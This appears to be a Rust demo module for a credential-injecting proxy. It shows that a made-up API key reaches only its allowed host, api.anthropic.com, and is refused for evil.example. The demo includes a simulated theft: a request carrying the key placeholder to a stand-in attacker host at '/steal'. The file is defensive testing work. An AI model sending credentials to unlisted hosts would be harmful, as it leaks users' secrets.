//! `demo`: shows injection and refusal in a few seconds, and verifies each of its claims.

use std::process::ExitCode;

use serde_json::Value;

use crate::daemon::signals::Signals;
use crate::sandbox::{Answer, Origin, Proxy, SandboxError, ServerCa};
use crate::terminal::failure::Failure;

const LISTED: &str = "api.anthropic.com";
const UNLISTED: &str = "evil.example";
const PLACEHOLDER: &str = "{{ANTHROPIC_API_KEY}}";
/// Made up.
const VALUE: &str = "sk-ant-made-up-for-the-demo";

pub(crate) fn main() -> Result<ExitCode, Failure> {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().map_err(Failure::not_well)?;
    let shown = runtime.block_on(async {
        tokio::select! {
            shown = show() => shown,
            stopped = stopped() => stopped,
        }
    });
    shown.map_err(|error| Failure::not_well(format!("the demo failed: {error}")))?;
    Ok(ExitCode::SUCCESS)
}

/// Ends the demo at a signal, and so the proxy, and removes the folder.
async fn stopped() -> Result<(), SandboxError> {
    Signals::listen()?.next().await;
    Err("a signal stopped it".into())
}

async fn show() -> Result<(), SandboxError> {
    let ca = ServerCa::new()?;
    let [listed, unlisted] = [Origin::start(&ca, LISTED).await?, Origin::start(&ca, UNLISTED).await?];
    let secrets = format!("ANTHROPIC_API_KEY={VALUE}\nANTHROPIC_API_KEY_HOSTS={LISTED}\n");
    let proxy = Proxy::start(&ca, &secrets, &[(LISTED, &listed), (UNLISTED, &unlisted)]).await?;
    let send = |host: &'static str, path: &'static str| proxy.get(host, path, PLACEHOLDER);

    out!("The real proxy runs on this machine, and local servers for {LISTED} and {UNLISTED}.");
    out!("The secrets file says:\n");
    out!("    ANTHROPIC_API_KEY={VALUE}\n    ANTHROPIC_API_KEY_HOSTS={LISTED}\n");

    let allowed = send(LISTED, "/v1/messages").await?;
    out!("1. A client sent         GET https://{LISTED}/v1/messages  x-api-key: {PLACEHOLDER}");
    for line in listed.received.all() {
        out!("   the server received   {line}");
    }
    out!("   the client got        {}\n", allowed.status);

    let theft = send(UNLISTED, "/steal").await?;
    out!("2. A theft was tried     GET https://{UNLISTED}/steal  x-api-key: {PLACEHOLDER}");
    out!("   the server received   {}", shown_or_nothing(&unlisted.received.all()));
    out!("   the client got        {}\n", theft.status);
    theft.body.lines().for_each(|line| out!("       {line}"));

    let records = proxy.records()?;
    out!("\n3. The audit file has one line for each:\n");
    records.iter().for_each(|(line, _)| out!("   {line}"));
    verify(&listed, &unlisted, &allowed, &theft, &records)?;
    out!("\nThe value reached {LISTED} and nothing else. Next: \"Use it\" in README.md");
    Ok(())
}

fn shown_or_nothing(lines: &[String]) -> String {
    if lines.is_empty() { "nothing".to_owned() } else { lines.join(", ") }
}

/// The demo has worked only if all of this holds.
fn verify(
    listed: &Origin,
    unlisted: &Origin,
    allowed: &Answer,
    theft: &Answer,
    records: &[(String, Value)],
) -> Result<(), SandboxError> {
    let require = |held: bool, what: &str| if held { Ok(()) } else { Err(SandboxError::from(what.to_owned())) };
    let received = listed.received.all();
    require(received.len() == 1 && received.iter().all(|line| line.contains(VALUE)), "the value did not arrive")?;
    require(unlisted.received.all().is_empty(), "the unlisted server was reached")?;
    require(allowed.status.starts_with("200"), "the allowed request failed")?;
    require(theft.status.starts_with("403"), "the theft was not refused")?;
    require(!allowed.body.contains(VALUE) && !theft.body.contains(VALUE), "the client saw the value")?;
    let blocked: Vec<&Value> = records.iter().map(|(_, record)| &record["blocked"]).collect();
    require(blocked == [&Value::Bool(false), &Value::Bool(true)], "the audit records are wrong")?;
    let id = records.last().and_then(|(_, record)| record["id"].as_str());
    require(id == theft.id.as_deref(), "the refusal's id is not the record's")?;
    require(!records.iter().any(|(line, _)| line.contains(VALUE)), "the audit file holds the value")
}
